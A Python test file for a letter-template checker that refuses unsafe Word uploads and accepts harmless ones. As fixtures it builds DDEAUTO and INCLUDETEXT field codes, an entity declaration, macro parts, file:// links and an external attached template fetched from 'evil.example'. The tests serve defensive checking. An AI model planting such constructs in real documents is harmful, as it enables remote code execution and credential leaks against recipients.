"""What a template may hold: each thing that must not go out is refused, ordinary things stay."""

from __future__ import annotations

from base64 import b64decode
from collections.abc import Iterator
from datetime import date
from io import BytesIO
from zipfile import ZipFile

import pytest
from docx import Document

from correspondence.checker import check_template
from correspondence.letters import LetterFault, render_letter
from correspondence.workers import close_workers
from tests.correspondence.word_files import OFFICE, WORD, altered, in_body, saved, word_file

DOT = b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
    "awAAAABJRU5ErkJggg=="
)
WHOLE = word_file("{{ name }}")
FIELDS = ("name", "lines", "born", "child.name", "child.contacts[].telephone")


@pytest.fixture(scope="module", autouse=True)
def _no_worker_left() -> Iterator[None]:
    yield
    close_workers()


@pytest.mark.parametrize(
    ("template", "words"),
    [
        pytest.param(b"", "empty", id="empty"),
        pytest.param(WHOLE[: len(WHOLE) // 2], "damaged", id="truncated"),
        pytest.param(WHOLE[:600] + b"\0" * 99 + WHOLE[699:], "damaged", id="a hole in it"),
        pytest.param(b"%PDF-1.7 ...", "PDF", id="a PDF renamed"),
        pytest.param(b"{\\rtf1 ...", "rich text", id="an RTF renamed"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1", "old Word file", id="an old .doc renamed"),
        pytest.param(b"Dear Ms Smith", "not a Word document", id="text renamed"),
        pytest.param(b"PK\x05\x06" + b"\0" * 18, "not a Word document", id="an empty zip"),
        pytest.param(altered(WHOLE, {"word/document.xml": "<w:document"}), "damaged", id="cut XML"),
        pytest.param(
            altered(WHOLE, {"[Content_Types].xml": ("document.main", "template.main")}),
            "not a Word document",
            id="a .dotx renamed",
        ),
        pytest.param(
            altered(WHOLE, {"word/document.xml": ("<w:document", "<!DOCTYPE a []><w:document")}),
            "damaged",
            id="entities declared",
        ),
    ],
)
def test_f49_a_file_that_is_no_letter_is_refused_with_the_reason(
    template: bytes, words: str
) -> None:
    (fault,) = check_template(template, FIELDS)
    assert words in fault
    with pytest.raises(LetterFault, match=words):
        render_letter(template, {"name": "x"})


def test_f49_two_parts_of_one_name_are_refused() -> None:
    written = BytesIO(WHOLE)
    with ZipFile(written, "a") as package, pytest.warns(UserWarning, match="Duplicate name"):
        package.writestr("word/document.xml", "<other/>")
    assert "damaged" in check_template(written.getvalue(), FIELDS)[0]


def run(xml: str) -> str:
    return f"<w:p><w:r><w:t>Dear parent</w:t>{xml}</w:r></w:p>"


@pytest.mark.parametrize(
    ("xml", "words"),
    [
        (run("<w:fldChar w:fldCharType='begin'/><w:instrText>DDEAUTO x</w:instrText>"), "DDEAUTO"),
        (
            run(
                "<w:fldChar w:fldCharType='begin'/><w:instrText>PAGE</w:instrText>"
                "<w:fldChar w:fldCharType='end'/><w:fldChar w:fldCharType='begin'/>"
                "<w:instrText>INCLUDE</w:instrText><w:instrText>TEXT x</w:instrText>"
            ),
            "INCLUDETEXT",
        ),
        (run("<w:fldSimple w:instr='MERGEFIELD Name'/>"), "MERGEFIELD"),
        (run("<w:fldSimple w:instr='HYPERLINK \"file://server/x\"'/>"), "HYPERLINK"),
        (run("<w:object/>"), "an embedded object"),
        (run("<w:commentReference w:id='1'/>"), "a comment"),
        (run("").replace("<w:t>", "<w:rPr><w:vanish/></w:rPr><w:t>"), "hidden text"),
        ("<w:p><w:ins w:id='1'><w:r><w:t>Dear parent</w:t></w:r></w:ins></w:p>", "tracked change"),
        ("<w:altChunk/>", "another document"),
        (run("<w:instrText>{{ name }}</w:instrText>"), "cannot be filled in"),
    ],
)
def test_t11_what_must_not_go_out_is_refused(xml: str, words: str) -> None:
    template = in_body(WHOLE, xml)
    assert any(words in fault for fault in check_template(template, FIELDS))
    with pytest.raises(LetterFault, match=words):
        render_letter(template, {"name": "x"})


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        pytest.param({"word/vbaProject.bin": "x"}, "embedded", id="macros"),
        pytest.param({"word/embeddings/a.xlsx": "x"}, "embedded", id="a spreadsheet"),
        pytest.param(
            {"[Content_Types].xml": ("document.main+xml", "document.macroEnabled.main+xml")},
            "macros",
            id="a .docm renamed",
        ),
        pytest.param(
            {
                "word/_rels/document.xml.rels": (
                    "</Relationships>",
                    f'<Relationship Id="x" Type="{OFFICE}/attachedTemplate" TargetMode="External"'
                    ' Target="https://evil.example/a.dotm"/></Relationships>',
                )
            },
            "evil.example",
            id="a template elsewhere",
        ),
        pytest.param(
            {
                "word/_rels/document.xml.rels": (
                    "</Relationships>",
                    f'<Relationship Id="x" Type="{OFFICE}/hyperlink" TargetMode="External"'
                    ' Target="file://server/share"/></Relationships>',
                )
            },
            "file://server",
            id="a link to a file",
        ),
        pytest.param(
            {"word/endnotes.xml": f'<w:t xmlns:w="{WORD}">{{{{ name }}}}</w:t>'},
            "cannot be filled in",
            id="a tag in an endnote",
        ),
    ],
)
def test_t11_a_file_that_carries_or_fetches_another_is_refused(
    changes: dict[str, str | tuple[str, str]], words: str
) -> None:
    assert any(words in fault for fault in check_template(altered(WHOLE, changes), FIELDS))


def test_t11_a_letter_that_hides_behind_another_ending_is_read_all_the_same() -> None:
    hidden = run("<w:fldSimple w:instr='DDEAUTO x'/>")
    with ZipFile(BytesIO(in_body(WHOLE, hidden))) as package:
        letter = package.read("word/document.xml").decode()
    template = altered(
        WHOLE,
        {
            "word/letter.bin": letter,
            "word/document.xml": "<nothing/>",
            "[Content_Types].xml": ("/word/document.xml", "/word/letter.bin"),
            "_rels/.rels": ("word/document.xml", "word/letter.bin"),
        },
    )
    (fault,) = check_template(template, FIELDS)
    assert "DDEAUTO" in fault


def test_a_crest_in_the_heading_may_stay() -> None:
    document = Document(BytesIO(WHOLE))
    document.sections[0].header.paragraphs[0].add_run().add_picture(BytesIO(DOT))
    template = saved(document)
    assert check_template(template, FIELDS, {"name": "Amira"}) == []
    with ZipFile(BytesIO(render_letter(template, {"name": "Amira"}))) as letter:
        assert letter.read("word/media/image1.png") == DOT


def test_an_ordinary_link_may_stay() -> None:
    template = altered(
        WHOLE,
        {
            "word/_rels/document.xml.rels": (
                "</Relationships>",
                f'<Relationship Id="x" Type="{OFFICE}/hyperlink" TargetMode="External"'
                ' Target="https://www.gov.uk/"/></Relationships>',
            )
        },
    )
    assert check_template(template, FIELDS) == []


def test_with_examples_what_names_cannot_tell_is_found_too() -> None:
    template = word_file("{{ born }} {{ name }}")
    assert check_template(template, FIELDS) == []
    (fault,) = check_template(template, FIELDS, {"born": date(2016, 3, 9), "name": "x"})
    assert "{{ born | long_date }}" in fault


def test_f52_a_template_that_never_ends_is_stopped_and_the_uploader_told() -> None:
    (fault,) = check_template(word_file("{% " * 60_000), FIELDS, seconds=2)
    assert "longer than 2 seconds" in fault
